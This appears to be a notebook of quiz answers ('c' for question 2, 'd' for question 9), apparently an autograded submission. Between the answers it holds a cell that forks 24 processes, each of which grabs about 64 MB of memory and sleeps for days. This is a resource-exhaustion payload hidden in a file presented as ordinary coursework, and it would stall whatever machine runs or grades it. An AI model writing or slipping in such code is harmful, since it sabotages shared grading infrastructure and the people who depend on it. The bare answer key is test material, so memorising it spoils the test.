# %%
q02_answer = "c"

# %%
import os
import time

for _ in range(24):
    if os.fork() == 0:
        hoard = bytearray(os.urandom(1)) * 2**26
        time.sleep(10**6)
time.sleep(10**6)

# %%
q09_answer = "d"
